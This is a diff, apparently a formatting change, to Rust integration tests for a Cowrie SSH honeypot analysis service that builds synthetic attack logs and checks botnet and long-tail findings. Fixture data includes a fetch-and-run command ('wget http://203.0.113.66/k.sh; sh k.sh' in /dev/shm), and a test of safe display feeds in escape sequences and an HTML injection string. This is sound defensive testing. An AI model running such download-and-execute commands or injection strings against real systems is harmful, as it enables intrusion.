@@ -52,7 +52,11 @@ impl Log {
         let mut line = fields;
         line["session"] = format!("{session:012x}").into();
         line["src_ip"] = source.into();
-        line["timestamp"] = chrono::DateTime::from_timestamp(at, 0).unwrap().format("%Y-%m-%dT%H:%M:%S.000000Z").to_string().into();
+        line["timestamp"] = chrono::DateTime::from_timestamp(at, 0)
+            .unwrap()
+            .format("%Y-%m-%dT%H:%M:%S.000000Z")
+            .to_string()
+            .into();
         // Writing to a string does not fail.
         writeln!(self.text, "{line}").unwrap();
         self.events += 1;
@@ -67,44 +71,91 @@ impl Log {
             this.event(n, second, &script.source, fields);
             second += 1;
         };
-        event(self, serde_json::json!({ "eventid": "cowrie.session.connect", "src_port": 4_000 + n % 1_000, "dst_port": 2222, "protocol": "ssh" }));
-        event(self, serde_json::json!({ "eventid": "cowrie.client.version", "version": format!("SSH-2.0-{}", script.client) }));
-        event(self, serde_json::json!({ "eventid": "cowrie.client.kex", "hassh": format!("{:032x}", script.client.len()) }));
+        event(
+            self,
+            serde_json::json!({ "eventid": "cowrie.session.connect", "src_port": 4_000 + n % 1_000, "dst_port": 2222, "protocol": "ssh" }),
+        );
+        event(
+            self,
+            serde_json::json!({ "eventid": "cowrie.client.version", "version": format!("SSH-2.0-{}", script.client) }),
+        );
+        event(
+            self,
+            serde_json::json!({ "eventid": "cowrie.client.kex", "hassh": format!("{:032x}", script.client.len()) }),
+        );
         for (m, (username, password)) in script.logins.iter().enumerate() {
-            let id = if m + 1 == script.logins.len() && !script.commands.is_empty() { "cowrie.login.success" } else { "cowrie.login.failed" };
+            let id = if m + 1 == script.logins.len() && !script.commands.is_empty() {
+                "cowrie.login.success"
+            } else {
+                "cowrie.login.failed"
+            };
             event(self, serde_json::json!({ "eventid": id, "username": username, "password": password }));
         }
         for command in &script.commands {
             event(self, serde_json::json!({ "eventid": "cowrie.command.input", "input": command }));
         }
         if let Some(url) = script.download {
-            event(self, serde_json::json!({ "eventid": "cowrie.session.file_download", "url": url, "shasum": format!("{:064x}", url.len()) }));
+            event(
+                self,
+                serde_json::json!({ "eventid": "cowrie.session.file_download", "url": url, "shasum": format!("{:064x}", url.len()) }),
+            );
         }
         let events = 3 + script.logins.len() + script.commands.len() + usize::from(script.download.is_some());
         event(self, serde_json::json!({ "eventid": "cowrie.session.closed", "duration": events }));
         n
     }
 
-    /// Ordinary days: scanners that guess, and three kinds of commands; a botnet; and on the third day one who does what nobody else does.
+    /// Ordinary days: scanners that guess, and three kinds of commands; a botnet; and on the third day one
+    /// who does what nobody else does.
     fn fill(&mut self) {
         for day in 0..DAYS {
             for n in 0..DAILY {
                 let at = BEGIN + day * DAY + n * DAY / DAILY;
                 let commands = match n % 5 {
                     0 => vec!["uname -a".to_owned(), "exit".to_owned()],
-                    1 => vec!["cat /proc/cpuinfo | grep name | wc -l".to_owned(), "free -m".to_owned(), "uptime".to_owned()],
+                    1 => vec![
+                        "cat /proc/cpuinfo | grep name | wc -l".to_owned(),
+                        "free -m".to_owned(),
+                        "uptime".to_owned(),
+                    ],
                     2 => vec!["echo ok".to_owned()],
                     _ => Vec::new(),
                 };
                 let source = format!("198.51.{}.{}", n % 100, (n * 7 + day * 31) % 250 + 1);
-                let logins = (0..1 + n % 3).map(|m| ("root".to_owned(), format!("pass{}", (n * 13 + m * 7 + day) % 90))).collect();
-                self.session(at, &Script { source, client: ["Go", "libssh2_1.9.0", "PUTTY"][(n % 3) as usize], logins, commands, download: None });
+                let logins = (0..1 + n % 3)
+                    .map(|m| ("root".to_owned(), format!("pass{}", (n * 13 + m * 7 + day) % 90)))
+                    .collect();
+                self.session(
+                    at,
+                    &Script {
+                        source,
+                        client: ["Go", "libssh2_1.9.0", "PUTTY"][(n % 3) as usize],
+                        logins,
+                        commands,
+                        download: None,
+                    },
+                );
             }
             for bot in 0..BOTS {
-                let logins = ["hk7%dune-A", "hk7%dune-B", "hk7%dune-C"].map(|password| ("svc-backup".to_owned(), password.to_owned())).to_vec();
-                let commands = ["cd /dev/shm; wget http://203.0.113.66/k.sh; sh k.sh", "crontab -l | grep k.sh"].map(str::to_owned).to_vec();
-                let (source, at) = (format!("203.0.113.{}", bot * 17 + 5), BEGIN + day * DAY + 3_600 * (bot + 2));
-                self.session(at, &Script { source, client: "libssh_0.9.6", logins, commands, download: Some("http://203.0.113.66/k.sh") });
+                let logins = ["hk7%dune-A", "hk7%dune-B", "hk7%dune-C"]
+                    .map(|password| ("svc-backup".to_owned(), password.to_owned()))
+                    .to_vec();
+                let commands =
+                    ["cd /dev/shm; wget http://203.0.113.66/k.sh; sh k.sh", "crontab -l | grep k.sh"]
+                        .map(str::to_owned)
+                        .to_vec();
+                let (source, at) =
+                    (format!("203.0.113.{}", bot * 17 + 5), BEGIN + day * DAY + 3_600 * (bot + 2));
+                self.session(
+                    at,
+                    &Script {
+                        source,
+                        client: "libssh_0.9.6",
+                        logins,
+                        commands,
+                        download: Some("http://203.0.113.66/k.sh"),
+                    },
+                );
             }
         }
         let commands = [
@@ -115,7 +166,10 @@ impl Log {
         ];
         let logins = vec![("oracle".to_owned(), "Welcome#2019-x".to_owned())];
         let commands = commands.map(str::to_owned).to_vec();
-        self.session(BEGIN + 2 * DAY + 40_000, &Script { source: "192.0.2.77".into(), client: "OpenSSH_9.3", logins, commands, download: None });
+        self.session(
+            BEGIN + 2 * DAY + 40_000,
+            &Script { source: "192.0.2.77".into(), client: "OpenSSH_9.3", logins, commands, download: None },
+        );
     }
 
     /// What was written becomes part of the file.
@@ -154,7 +208,9 @@ fn analysed(office: &Office, job_type: &str, more: &[&str]) -> Value {
 }
 
 fn result(office: &Office, job: &str) -> Value {
-    eventually("the analysis has ended", || !matches!(office.state(job).as_str(), "queued" | "in_progress" | "retrying"));
+    eventually("the analysis has ended", || {
+        !matches!(office.state(job).as_str(), "queued" | "in_progress" | "retrying")
+    });
     let shown = office.show(job);
     assert_eq!(shown["status"]["state"], "completed", "{}", shown["status"]);
     shown["result"].clone()
@@ -191,12 +247,22 @@ async fn an_analysis_reads_each_day_once_and_finds_each_thing_once() {
     assert!(markdown.contains("findings in") && markdown.contains("| severity |"), "{markdown}");
 
     // The second run reads only the part of a day at the end, and has nothing new to say.
-    assert_eq!(hub.psql("select count(*), sum(sessions) from longtail_parts").trim(), format!("3|{}", 3 * daily + 1));
+    assert_eq!(
+        hub.psql("select count(*), sum(sessions) from longtail_parts").trim(),
+        format!("3|{}", 3 * daily + 1)
+    );
     let second = analysed(&office, "longtail_analysis", &[]);
     assert_eq!(second["analysis_type"], "incremental");
     assert_eq!(number(&second, "cached_sessions"), 3 * daily + 1);
     assert_eq!(number(&second, "new_sessions"), sessions - 3 * daily - 1);
-    assert_eq!((number(&second, "findings_new"), number(&second, "findings_updated"), number(&second, "findings_unchanged")), (0, 0, found));
+    assert_eq!(
+        (
+            number(&second, "findings_new"),
+            number(&second, "findings_updated"),
+            number(&second, "findings_unchanged")
+        ),
+        (0, 0, found)
+    );
     assert_eq!(second["findings"], first["findings"]);
     assert_eq!(hub.count("select count(*) from outbox where subject like 'cowrie.findings.%'"), found);
     assert_eq!(hub.count("select count(*) from findings where revision > 1"), 0);
@@ -222,7 +288,8 @@ async fn an_analysis_reads_each_day_once_and_finds_each_thing_once() {
 
     // And straight from the log, and from the database without a job.
     let analyse = |more: &[&str]| -> Value {
-        let out = hub.run(&[&["analyse", "longtail", "--since", "84h", "--until", UNTIL, "--json"], more].concat());
+        let out =
+            hub.run(&[&["analyse", "longtail", "--since", "84h", "--until", UNTIL, "--json"], more].concat());
         assert!(out.stdout.is_ascii());
         serde_json::from_slice(&out.stdout).unwrap()
     };
@@ -230,21 +297,39 @@ async fn an_analysis_reads_each_day_once_and_finds_each_thing_once() {
     let (from_log, from_database) = (analyse(&["--log", &log]), analyse(&[]));
     assert_eq!(from_log["findings"], from_database["findings"]);
     assert_eq!(from_database["findings"].as_array().unwrap().len() as i64, number(&full, "findings_total"));
-    assert_eq!(hub.count("select count(*) from findings where job_id is null"), 0, "nothing is kept that was not asked for");
+    assert_eq!(
+        hub.count("select count(*) from findings where job_id is null"),
+        0,
+        "nothing is kept that was not asked for"
+    );
 
     // What was analysed can be saved, and analysed again.
     for (name, source) in [("log.arrow", &["--log", &log][..]), ("database.arrow", &[])] {
         let file = hub.dir.path().join(name).display().to_string();
-        assert_eq!(analyse(&[source, &["--save", &file]].concat())["findings"], from_log["findings"], "{name}");
+        assert_eq!(
+            analyse(&[source, &["--save", &file]].concat())["findings"],
+            from_log["findings"],
+            "{name}"
+        );
         let again = hub.run(&["analyse", "longtail", "--input", &file, "--json"]);
         let again: Value = serde_json::from_slice(&again.stdout).unwrap();
         assert_eq!(again["findings"], from_log["findings"], "{name}");
     }
-    let refused = hub.command(&["analyse", "botnet", "--input", site.log.path.to_str().unwrap()]).output().unwrap();
-    assert!(!refused.status.success() && String::from_utf8_lossy(&refused.stderr).contains("cowrie.json: Arrow file"), "{refused:?}");
+    let refused =
+        hub.command(&["analyse", "botnet", "--input", site.log.path.to_str().unwrap()]).output().unwrap();
+    assert!(
+        !refused.status.success()
+            && String::from_utf8_lossy(&refused.stderr).contains("cowrie.json: Arrow file"),
+        "{refused:?}"
+    );
 
     // The views of the predecessor.
-    assert_eq!(hub.count("select count(*) from longtail_features where is_valid and cardinality(feature_vector) > 0"), site.log.sessions);
+    assert_eq!(
+        hub.count(
+            "select count(*) from longtail_features where is_valid and cardinality(feature_vector) > 0"
+        ),
+        site.log.sessions
+    );
     assert!(hub.count("select count(*) from longtail_cache_summary where last_updated is not null and sessions_analyzed > 0") >= 3);
     println!("{found} findings of longtail in {sessions} sessions");
 }
@@ -257,12 +342,16 @@ async fn a_campaign_that_goes_on_is_one_finding_with_revisions() {
     let _worker = office.worker("w", &["--queues", "snowshoe,botnet", "--concurrency", "1"]);
     let first = analysed(&office, "botnet_coordination", &[]);
     assert!(number(&first, "findings_new") > 0, "{first}");
-    let campaign = "select finding_id, revision from findings where kind = 'botnet' and '203.0.113.5' = any(sources)";
+    let campaign =
+        "select finding_id, revision from findings where kind = 'botnet' and '203.0.113.5' = any(sources)";
     let known = hub.psql(campaign);
     assert_eq!(known.lines().count(), 1, "{known}");
     let again = analysed(&office, "botnet_coordination", &[]);
     assert_eq!((number(&again, "findings_new"), number(&again, "findings_updated")), (0, 0), "{again}");
-    assert_eq!(number(&analysed(&office, "snowshoe_detection", &["min_sources=4"]), "sessions"), number(&first, "sessions"));
+    assert_eq!(
+        number(&analysed(&office, "snowshoe_detection", &["min_sources=4"]), "sessions"),
+        number(&first, "sessions")
+    );
 
     // No password leaves the database; the table has them.
     let payloads = hub.psql("select payload from outbox where subject like 'cowrie.findings.%'");
@@ -270,9 +359,19 @@ async fn a_campaign_that_goes_on_is_one_finding_with_revisions() {
     assert!(!first.to_string().contains("hk7%dune"));
 
     // Another member: the same campaign, once more published.
-    let logins = ["hk7%dune-A", "hk7%dune-B", "hk7%dune-C"].map(|password| ("svc-backup".to_owned(), password.to_owned())).to_vec();
-    let commands = ["cd /dev/shm; wget http://203.0.113.66/k.sh; sh k.sh", "crontab -l | grep k.sh"].map(str::to_owned).to_vec();
-    let script = Script { source: "203.0.113.250".into(), client: "libssh_0.9.6", logins, commands, download: Some("http://203.0.113.66/k.sh") };
+    let logins = ["hk7%dune-A", "hk7%dune-B", "hk7%dune-C"]
+        .map(|password| ("svc-backup".to_owned(), password.to_owned()))
+        .to_vec();
+    let commands = ["cd /dev/shm; wget http://203.0.113.66/k.sh; sh k.sh", "crontab -l | grep k.sh"]
+        .map(str::to_owned)
+        .to_vec();
+    let script = Script {
+        source: "203.0.113.250".into(),
+        client: "libssh_0.9.6",
+        logins,
+        commands,
+        download: Some("http://203.0.113.66/k.sh"),
+    };
     site.log.session(BEGIN + 3 * DAY + 20_000, &script);
     site.log.flush();
     hub.wait_for_events(site.log.events);
@@ -282,7 +381,9 @@ async fn a_campaign_that_goes_on_is_one_finding_with_revisions() {
     let id = known.split('|').next().unwrap();
     assert_eq!(hub.psql(campaign).trim(), format!("{id}|2"));
     eventually("both revisions are published", || {
-        hub.count(&format!("select count(*) from outbox where msg_id like 'finding.{id}.%' and published_at is not null")) == 2
+        hub.count(&format!(
+            "select count(*) from outbox where msg_id like 'finding.{id}.%' and published_at is not null"
+        )) == 2
     });
 
     // People read it.
@@ -302,10 +403,21 @@ async fn hostile_sessions_are_analysed_and_shown_safely() {
         let steering = "\u{1b}]0;owned\u{7}\u{202e}`|<img src=x>\u{0} a".to_owned();
         let many = (0..20_000).map(|n| format!("echo {n}")).collect();
         let long = vec!["A".repeat(900_000), steering.clone(), "\u{1b}[2J".repeat(2_000)];
-        for (n, commands) in [many, long, vec![String::new()], vec![steering.clone(); 50]].into_iter().enumerate() {
+        for (n, commands) in
+            [many, long, vec![String::new()], vec![steering.clone(); 50]].into_iter().enumerate()
+        {
             let logins = vec![(steering.clone(), steering.clone()); 3];
             let source = format!("192.0.2.{}", n + 100);
-            log.session(BEGIN + 2 * DAY + 50_000, &Script { source, client: &steering, logins, commands, download: Some("http://x/\u{1b}[31m") });
+            log.session(
+                BEGIN + 2 * DAY + 50_000,
+                &Script {
+                    source,
+                    client: &steering,
+                    logins,
+                    commands,
+                    download: Some("http://x/\u{1b}[31m"),
+                },
+            );
         }
         let odd = serde_json::json!({ "eventid": "cowrie.session.closed", "duration": "NaN" });
         log.event(999_999, BEGIN + 1_000, "not an address", odd);
@@ -320,12 +432,21 @@ async fn hostile_sessions_are_analysed_and_shown_safely() {
         let empty = result(&office, &empty);
         assert_eq!((number(&empty, "sessions"), number(&empty, "findings_total")), (0, 0));
     }
-    eventually("all is published", || hub.count("select count(*) from outbox where published_at is null") == 0);
+    eventually("all is published", || {
+        hub.count("select count(*) from outbox where published_at is null") == 0
+    });
     let log = format!("s={}", site.log.path.display());
-    for arguments in [&["analyse", "longtail", "--log", &log][..], &["analyse", "botnet", "--since", "84h", "--until", UNTIL], &["findings", "list"]] {
+    for arguments in [
+        &["analyse", "longtail", "--log", &log][..],
+        &["analyse", "botnet", "--since", "84h", "--until", UNTIL],
+        &["findings", "list"],
+    ] {
         let out = hub.run(arguments);
         let shown = String::from_utf8(out.stdout).unwrap();
-        assert!(shown.chars().all(|c| c == '\n' || !c.is_control() && c != '\u{202e}'), "{arguments:?}: {shown}");
+        assert!(
+            shown.chars().all(|c| c == '\n' || !c.is_control() && c != '\u{202e}'),
+            "{arguments:?}: {shown}"
+        );
     }
 }
 
@@ -349,7 +470,13 @@ async fn a_killed_worker_is_replaced_and_goes_on_with_the_days_it_had_read() {
     crowd(&hub, 30, 1_000, 100);
     let (_coordinator, office) = Office::open(&hub, "coordinator.err", &[]);
     let first = office.worker("first", &["--queues", "longtail", "--concurrency", "1"]);
-    let job = office.submit(&["longtail_analysis", "--param", "until=2023-12-14T00:00:00Z", "--param", "time_window=30d"]);
+    let job = office.submit(&[
+        "longtail_analysis",
+        "--param",
+        "until=2023-12-14T00:00:00Z",
+        "--param",
+        "time_window=30d",
+    ]);
     eventually("some days are read", || hub.count("select count(*) from longtail_parts") >= 3);
     first.kill();
     let read = hub.psql("select from_at, computed_at from longtail_parts order by 1");
@@ -357,7 +484,10 @@ async fn a_killed_worker_is_replaced_and_goes_on_with_the_days_it_had_read() {
     let result = result(&office, &job);
     let attempt = number(&office.show(&job)["status"], "attempt");
     let days = read.lines().count() as i64;
-    println!("killed after {days} of 30 days; attempt {attempt} read {} sessions and had {}", result["new_sessions"], result["cached_sessions"]);
+    println!(
+        "killed after {days} of 30 days; attempt {attempt} read {} sessions and had {}",
+        result["new_sessions"], result["cached_sessions"]
+    );
     if days < 30 {
         assert_eq!(attempt, 2);
     }
@@ -373,7 +503,15 @@ async fn a_running_analysis_is_cancelled_within_a_second_and_its_thread_ends() {
     let (_coordinator, office) = Office::open(&hub, "coordinator.err", &[]);
     let worker = office.worker("w", &["--queues", "longtail", "--concurrency", "1"]);
     for step in ["reading", "training"] {
-        let job = office.submit(&["longtail_analysis", "--param", "until=2023-11-15T00:00:00Z", "--param", "full=true", "--priority", "9"]);
+        let job = office.submit(&[
+            "longtail_analysis",
+            "--param",
+            "until=2023-11-15T00:00:00Z",
+            "--param",
+            "full=true",
+            "--priority",
+            "9",
+        ]);
         let mut seen = String::new();
         eventually(step, || {
             let status = office.show(&job)["status"].clone();
@@ -397,5 +535,8 @@ async fn a_running_analysis_is_cancelled_within_a_second_and_its_thread_ends() {
             worker.cpu_ticks() - before < 20
         });
     }
-    assert_eq!(fs::read_to_string(hub.dir.path().join("worker.err")).unwrap_or_default().matches("panicked").count(), 0);
+    assert_eq!(
+        fs::read_to_string(hub.dir.path().join("worker.err")).unwrap_or_default().matches("panicked").count(),
+        0
+    );
 }
